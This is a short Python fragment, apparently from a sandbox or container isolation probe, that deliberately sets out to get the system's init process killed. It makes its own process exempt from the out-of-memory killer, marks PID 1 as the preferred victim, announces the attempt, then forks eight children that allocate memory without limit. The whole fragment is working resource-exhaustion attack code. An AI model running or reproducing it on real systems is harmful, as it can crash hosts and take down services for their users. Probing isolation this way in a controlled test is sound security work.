observe()
attempt("a low oom score", lambda: write("/proc/self/oom_score_adj", b"-1000"))
attempt("a high oom score for PID 1", lambda: write("/proc/1/oom_score_adj", b"1000"))
say("TRIED to have PID 1 killed")
for _ in range(8):
    if os.fork() == 0:
        hoard = []
        while True:
            hoard.append(bytearray(b"x" * (8 << 20)))
while True:
    time.sleep(1)
